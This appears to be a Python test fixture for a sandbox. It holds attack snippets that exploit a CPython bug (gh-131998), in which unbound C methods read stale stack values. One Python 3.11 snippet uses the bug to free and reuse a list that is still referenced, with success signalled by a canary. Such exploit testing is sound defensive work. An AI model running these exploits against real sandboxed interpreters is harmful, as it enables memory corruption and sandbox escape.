"""A method in C, called without an object, takes what an earlier expression left on the interpreter's stack: gh-131998.

Where the interpreter gave the call an instruction of its own, it says that it got -1 arguments; Python 3.11 also
releases what it took, so that a list goes away while variables hold it.
"""

import sys

_CALL = """
def call(method, value):
    (value, value, value, value, value, value)
    try:
        method()
    except TypeError as error:
        return "-1" in str(error)
"""
# HELD is kept to the end: what was released too often must not be freed before the control has been judged.
_CALLS = """
HELD = []
def calls(method, value):
    HELD.extend([value] * 1000)
    return any([call(method, value) for _ in range(50)])
"""
_METHODS = {
    "list_pop": ("list.pop", "[1, 2]"),
    "list_sort": ("list.sort", "[1, 2]"),
    "dict_pop": ("dict.pop", "{1: 2}"),
    "text": ("str.split", "str(1000)"),
    "bytearray_pop": ("bytearray.pop", "bytearray(9)"),
    "number": ("int.to_bytes", "10 ** 30"),
    "generator": ("type(i for i in ()).throw", "(i for i in ())"),
    "deque": ("collections.deque.insert", "collections.deque()"),
}

ADVISORY = ""
GUARANTEE = "no-reflection"
ATTACKS = {
    name: f"import collections\n{_CALL}{_CALLS}\nLOOT = CANARY if calls({method}, {value}) else None\n"
    for name, (method, value) in _METHODS.items()
}
if sys.version_info < (3, 12):
    ATTACKS["list_that_goes_away"] = (
        _CALL
        + """
x = [1, 2]
held = [x] * 9
for _ in range(50):
    if call(list.pop, x):  # one reference less than there are
        break
held.clear()
taken = [[] for _ in range(100)]
LOOT = CANARY if any([x is each for each in (taken, *taken)]) else None
"""
    )
